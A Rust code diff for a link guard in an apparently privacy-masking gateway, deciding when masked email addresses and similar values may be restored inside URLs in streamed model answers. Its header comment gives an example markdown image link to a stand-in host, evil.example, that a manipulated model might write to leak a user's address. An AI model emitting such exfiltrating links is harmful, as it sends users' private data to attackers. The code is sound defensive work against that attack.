@@ -2,8 +2,9 @@
 //!
 //! Whatever renders an answer may fetch what it links to. A model that was talked into writing
 //! `![](https://evil.example/?q=[EMAIL_ADDRESS_1])` must not get the address put in. So within URLs and link targets a
-//! substitute is restored only if the host has been read whole and is one of the route's, or if the very URL stood in
-//! the user's or the system's own text.
+//! substitute is restored only if the host has been read whole and is one of the route's or of this network, if the very
+//! URL stood in a text of the request, whose writer knew the original, or if it is the address of a `mailto:` or `tel:`
+//! link, which fetches nothing.
 //!
 //! Renderers differ, and browsers forgive much: tabs and newlines within URLs, backslashes, user names, entities. What
 //! is not plainly `http://host/…` or `https://host/…` therefore has no host at all here. What may be the target of a
@@ -13,58 +14,19 @@
 //! The guard follows the client's view, with the originals in it. It takes a few bytes of state, which are kept across
 //! the chunks of a stream.
 
-use std::collections::BTreeSet;
-
-use super::{bare_host::BareHost, table::RestoreTable, target::Target, url::Url};
-
-/// The URLs, masked, of texts of the user or the system.
-#[derive(Default)]
-pub(super) struct KnownUrls {
-    urls: BTreeSet<Box<str>>,
-    longest: usize,
-}
-
-/// Longest known URL, in bytes.
-const MAX_URL: usize = 2048;
-
-/// Most known URLs.
-const MAX_URLS: usize = 4096;
+use super::{
+    bare_host::BareHost,
+    known_urls::{MAX_URL, MarkedUrl, is_trailing},
+    table::RestoreTable,
+    target::Target,
+    url::Url,
+};
 
 /// Most open targets.
 const MAX_TARGETS: usize = 8;
 
 /// How far the end of a host is looked for behind an original that ends in an authority, in bytes.
 const MAX_TAIL: usize = 64;
-
-impl KnownUrls {
-    /// Adds `url`, unless it is too long or there are too many.
-    pub(super) fn add(&mut self, url: &str) {
-        let url = trimmed(url);
-        if !url.is_empty() && url.len() <= MAX_URL && self.urls.len() < MAX_URLS {
-            self.longest = self.longest.max(url.len());
-            self.urls.insert(url.into());
-        }
-    }
-
-    fn contains(&self, url: &str) -> bool {
-        self.urls.contains(trimmed(url))
-    }
-
-    /// Whether a known URL begins with `start`.
-    fn may_become(&self, start: &str) -> bool {
-        let from = (std::ops::Bound::Included(start), std::ops::Bound::Unbounded);
-        self.urls.range::<str, _>(from).next().is_some_and(|url| url.starts_with(start))
-    }
-}
-
-/// `url` without the punctuation of the sentence around it.
-fn trimmed(url: &str) -> &str {
-    url.trim_end_matches(|c: char| c.is_ascii() && is_trailing(c as u8))
-}
-
-fn is_trailing(byte: u8) -> bool {
-    b".,;:!?'\"`)}*_~|".contains(&byte)
-}
 
 /// The decision on a substitute.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -110,7 +72,7 @@ pub(super) struct LinkGuard {
     /// Whether the last one that closed had been open.
     matched: bool,
     /// The URLs with a substitute in them; `None` unless they are to be collected.
-    collected: Option<Vec<Box<str>>>,
+    collected: Option<Vec<MarkedUrl>>,
 }
 
 const fn pack(word: &str) -> u128 {
@@ -166,18 +128,13 @@ impl LinkGuard {
         self.lost || !self.bare.is_none() || !self.targets.is_empty()
     }
 
-    /// A guard that allows everything, and collects the URLs with a substitute in them.
+    /// A guard that collects the URLs with a substitute in them.
     pub(super) fn collecting() -> Self {
         Self { collected: Some(Vec::new()), ..Self::default() }
     }
 
-    /// Whether it allows everything, since nothing is put into an answer.
-    pub(super) fn is_collecting(&self) -> bool {
-        self.collected.is_some()
-    }
-
     /// The collected URLs, at the end of the text.
-    pub(super) fn finish(mut self) -> Vec<Box<str>> {
+    pub(super) fn finish(mut self) -> Vec<MarkedUrl> {
         self.end_all();
         self.collected.unwrap_or_default()
     }
@@ -190,9 +147,6 @@ impl LinkGuard {
         rest: &str,
         eof: bool,
     ) -> Verdict {
-        if self.collected.is_some() {
-            return Verdict::Restore;
-        }
         if self.lost {
             return Verdict::Leave;
         }
@@ -248,20 +202,19 @@ impl LinkGuard {
     ) -> Verdict {
         let mut ahead = Self { collected: Some(Vec::new()), ..self.clone() };
         ahead.restore(table, (substitute, original));
-        for byte in rest.bytes().take(table.known_urls.longest + 1) {
+        let reach = table.known_urls.reach();
+        for byte in rest.bytes().take(reach) {
             if !ahead.is_marked() {
                 break;
             }
             ahead.feed(table, &[byte], true);
         }
-        if ahead.is_marked() && eof {
-            ahead.end_all();
+        if ahead.is_marked() && rest.len() < reach && !eof {
+            return Verdict::Wait;
         }
-        if ahead.is_marked() {
-            return if rest.len() <= table.known_urls.longest { Verdict::Wait } else { Verdict::Leave };
-        }
+        ahead.end_all();
         let urls = ahead.collected.unwrap_or_default();
-        let known = !urls.is_empty() && urls.iter().all(|url| table.known_urls.contains(url));
+        let known = !urls.is_empty() && urls.iter().all(|url| table.known_urls.contains(url, self.is_source));
         if known { Verdict::Restore } else { Verdict::Leave }
     }
 
@@ -278,7 +231,13 @@ impl LinkGuard {
     /// Goes on behind a substitute, in whose place the client gets the original.
     pub(super) fn restore(&mut self, table: &RestoreTable, (substitute, original): (&str, &str)) {
         let (bare, targets) = (!self.bare.is_none(), self.targets.len());
+        let calls: Vec<bool> = self.targets.iter().map(|target| target.url().is_call()).collect();
         self.feed(table, original.as_bytes(), false);
+        if self.targets.len() == targets {
+            for (target, _) in self.targets.iter_mut().zip(calls).filter(|(_, is_call)| *is_call) {
+                target.url_mut().go_on_with_call();
+            }
+        }
         let (keep, mark) = (self.keep(table), self.collected.is_some());
         if !self.bare.is_none() {
             self.bare.record(substitute, keep, !bare, mark);
@@ -290,7 +249,17 @@ impl LinkGuard {
 
     /// How many bytes of a URL must be kept, to compare it with the known ones.
     fn keep(&self, table: &RestoreTable) -> usize {
-        if self.collected.is_some() { MAX_URL } else { table.known_urls.longest }
+        match (&self.collected, table.known_urls.is_empty()) {
+            (Some(_), true) => MAX_URL,
+            (None, true) => 0,
+            (_, false) => table.known_urls.reach(),
+        }
+    }
+
+    /// Marks open URLs as ones in which a substitute stands that this gateway did not put there.
+    pub(super) fn taint(&mut self) {
+        self.bare.taint();
+        self.targets.iter_mut().for_each(|target| target.url_mut().taint());
     }
 
     fn feed(&mut self, table: &RestoreTable, bytes: &[u8], record: bool) {
@@ -361,7 +330,11 @@ impl LinkGuard {
     fn step_bare(&mut self, byte: u8, table: &RestoreTable, keep: usize) {
         if !self.bare.is_none() {
             // Behind a quote some renderers go on with the URL; behind an angle bracket none does.
-            if ends_url(byte) || byte == self.close && (self.is_source || byte == b'>') {
+            let is_behind_quote = matches!(self.last[0], b'"' | b'\'' | b'`') && b",:;)]}".contains(&byte);
+            if ends_url(byte)
+                || byte == self.close && (self.is_source || byte == b'>')
+                || self.is_source && is_behind_quote
+            {
                 self.end_bare();
             } else {
                 self.bare.step(byte, &table.hosts, keep);
@@ -407,7 +380,7 @@ impl LinkGuard {
             b'(' if self.last[0] == b']' => Target::parenthesis(self.matched),
             b'(' if self.letters == 3 && self.word == pack("url") => Target::parenthesis(true),
             b':' if self.last[0] == b']' => Target::reference(),
-            b'=' if self.attribute || self.is_attribute() => Target::attribute(),
+            b'=' if self.attribute || self.is_attribute() => Target::attribute(self.is_source),
             _ => return,
         };
         if self.targets.len() < MAX_TARGETS {
@@ -461,7 +434,7 @@ impl LinkGuard {
 
     fn end_target(&mut self, target: &Target) {
         if let Some(collected) = &mut self.collected {
-            collected.extend(target.url().marked_text());
+            collected.extend(target.url().marked());
         }
         if target.owns_bare() {
             self.end_bare();
@@ -470,7 +443,7 @@ impl LinkGuard {
 
     fn end_bare(&mut self) {
         if let Some(collected) = &mut self.collected {
-            collected.extend(self.bare.marked_text());
+            collected.extend(self.bare.marked());
         }
         self.bare = Url::default();
         self.close = 0;
